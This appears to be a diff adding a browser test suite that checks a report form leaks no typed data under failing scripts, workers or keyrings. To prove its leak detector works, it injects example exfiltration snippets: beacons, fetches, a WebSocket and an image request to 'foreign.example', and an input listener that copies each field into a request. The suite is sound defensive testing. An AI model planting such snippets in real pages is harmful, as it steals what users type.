@@ -1,0 +1,184 @@
+import type { Page } from 'puppeteer-core';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { browserKinds, engineOf, type Started, startBrowser } from '../journeys/browser.ts';
+import { canaries, chosen, fillWithCanaries, pressEverything } from './canaries.ts';
+import { findCanary } from './find-canary.ts';
+import { type Fate, RecordingProxy } from './recording-proxy.ts';
+
+const site = inject('site');
+const needles = [...canaries, ...chosen];
+
+/** Whom browsers themselves call, whatever the page; their bytes are searched like all others. */
+const ofTheBrowser = /(^|\.)(googleapis|google|gstatic|mozilla|firefox)\.(com|org|net)(:443)?$/;
+
+/** Every way in which a page can fail to become ready, by what happens to one answer. */
+const scripts: readonly [string, RegExp][] = [
+  ['report script', /\/assets\/report-/],
+  ['worker', /\/assets\/seal-/],
+  ['libsodium', /\/assets\/sodium-/],
+  ['exit script', /\/assets\/exit-/],
+  ['keyring', /\/keyring\.json$/],
+  ['signature', /\/keyring\.json\.minisig$/],
+];
+const fates: readonly Fate[] = ['hold', 'abort', 'error'];
+
+const failing: readonly [string, (path: string) => Fate][] = [
+  ...scripts.flatMap(([name, pattern]) =>
+    fates.map((fate): [string, (path: string) => Fate] => [
+      `${name}: ${fate}`,
+      (path) => (pattern.test(path) ? fate : 'pass'),
+    ]),
+  ),
+  [
+    'a worker that throws',
+    (path) =>
+      /\/assets\/seal-/.test(path)
+        ? { body: 'throw new Error("broken")', headers: { 'Content-Type': 'text/javascript' } }
+        : 'pass',
+  ],
+  [
+    'a libsodium that throws',
+    (path) =>
+      /\/assets\/sodium-/.test(path)
+        ? { body: 'throw new Error("broken")', headers: { 'Content-Type': 'text/javascript' } }
+        : 'pass',
+  ],
+  [
+    'a keyring that is not signed',
+    (path) => (path === '/keyring.json' ? { change: (body) => body.replace('"serial": 1', '"serial": 2') } : 'pass'),
+  ],
+];
+
+/** Why WebAssembly would not start in the worker: its response without the word that allows it. */
+const withoutWasm = (path: string): Fate =>
+  /\/assets\/seal-/.test(path) ? { change: (body) => `delete self.WebAssembly;${body}` } : 'pass';
+
+describe.each(browserKinds)('in %s', (kind) => {
+  let proxy: RecordingProxy;
+  let started: Started;
+
+  beforeAll(async () => {
+    proxy = new RecordingProxy(site.origin);
+    started = await startBrowser(kind, { proxyPort: await proxy.listen() });
+  });
+  afterAll(async () => {
+    await started.end();
+    await proxy.close();
+  });
+
+  /** Opens the form under a fate, fills it, presses everything, and gives the canaries that left. */
+  async function leaksUnder(
+    fatesOf: (path: string) => Fate,
+    act: (page: Page) => Promise<void> = pressEverything,
+  ): Promise<string[]> {
+    proxy.begin(fatesOf);
+    const page = await started.browser.newPage();
+    page.on('dialog', (dialog) => void dialog.accept().catch(() => {}));
+    try {
+      await page.goto(`${site.origin}/en/report`, { waitUntil: 'domcontentloaded', timeout: 8000 }).catch(() => {});
+      await page.waitForSelector('form');
+      // The page gets a moment to become ready or to give up; what it may not do is leak in either case.
+      await page.waitForSelector('html[data-ready], html[data-failed]', { timeout: 2500 }).catch(() => {});
+      await fillWithCanaries(page);
+      await act(page);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      proxy.release();
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return leaks();
+    } finally {
+      await page.close({ runBeforeUnload: false });
+    }
+  }
+
+  function leaks(): string[] {
+    const bytes = proxy.recorded();
+    expect(bytes.includes('/en/report HTTP/1.1')).toBe(true);
+    return [
+      ...needles.flatMap((needle) => findCanary(bytes, needle).map((look) => `${needle} as ${look}`)),
+      ...[...proxy.foreignHosts].filter((host) => !ofTheBrowser.test(host)),
+    ];
+  }
+
+  it('catches a canary by each of six ways out', async () => {
+    const word = canaries[0];
+    const ways: readonly [string, string][] = [
+      [
+        'worker fetch',
+        `new Worker(URL.createObjectURL(new Blob(["fetch('${site.origin}/w', { method: 'POST', body: '${word}' })"])))`,
+      ],
+      ['beacon', `navigator.sendBeacon('/b', '${word}')`],
+      ['address', `fetch('/u?${word}')`],
+      ['header', `fetch('/h', { headers: { 'X-Any': '${word}' } })`],
+      ['WebSocket', `new WebSocket('ws://foreign.example/${word}')`],
+      ['foreign image', `new Image().src = 'http://foreign.example/${word}.png'`],
+    ];
+    for (const [way, code] of ways) {
+      proxy.begin((path) => (path === '/control' ? { body: `<!doctype html><script>${code}</script>` } : 'pass'));
+      const page = await started.browser.newPage();
+      await page.goto(`${site.origin}/control`);
+      const until = Date.now() + 10_000;
+      let found: string[] = [];
+      while (found.length === 0 && Date.now() < until) {
+        found = findCanary(proxy.recorded(), word);
+        await new Promise((resolve) => setTimeout(resolve, 50));
+      }
+      expect([way, found.length > 0]).toEqual([way, true]);
+      await page.close();
+    }
+  });
+
+  it('sends a whole report without a readable word', async () => {
+    const leaked = await leaksUnder(
+      () => 'pass',
+      async (page) => {
+        expect(await page.$eval('html', (html) => html.dataset.engine)).toBe(engineOf[kind]);
+        await page.click('#send-button');
+        await page.waitForSelector('#issued:not([hidden])');
+        await pressEverything(page);
+      },
+    );
+    expect(proxy.recorded().includes('/envelopes HTTP/1.1')).toBe(true);
+    expect(proxy.recorded().includes('age-encryption.org/v1')).toBe(true);
+    expect(leaked).toEqual([]);
+  });
+
+  it.each(failing)('leaks nothing with %s', async (_what, fatesOf) => {
+    expect(await leaksUnder(fatesOf)).toEqual([]);
+  });
+
+  it('seals with the light engine where WebAssembly does not start, and leaks nothing', async () => {
+    const leaked = await leaksUnder(withoutWasm, async (page) => {
+      expect(await page.$eval('html', (html) => html.dataset.engine)).toBe('light');
+      await page.click('#send-button');
+      await page.waitForSelector('#issued:not([hidden])');
+    });
+    expect(leaked).toEqual([]);
+  });
+
+  const noScript = (path: string): Fate => (/\/assets\/report-/.test(path) ? 'abort' : 'pass');
+  const page =
+    (change: (html: string) => string) =>
+    (path: string): Fate =>
+      path === '/en/report' ? { change } : noScript(path);
+  const native = '<button type="submit" formmethod="post" formaction="/en/report">Send</button>';
+
+  it.each([
+    [
+      'its button is a native one',
+      page((html) => html.replace('<div id="send"></div>', `<div id="send">${native}</div>`)),
+    ],
+    ['its form is no dialog', page((html) => html.replace('method="dialog"', ''))],
+    [
+      'a field is copied into an address',
+      (path: string): Fate =>
+        /\/assets\/report-/.test(path)
+          ? {
+              change: (code) =>
+                `${code};document.addEventListener('input',(e)=>fetch('/assets/x?'+encodeURIComponent(e.target.value)))`,
+            }
+          : 'pass',
+    ],
+  ])('finds the leak of a page that is changed so that %s', async (_what, fatesOf) => {
+    expect(await leaksUnder(fatesOf)).not.toEqual([]);
+  });
+});
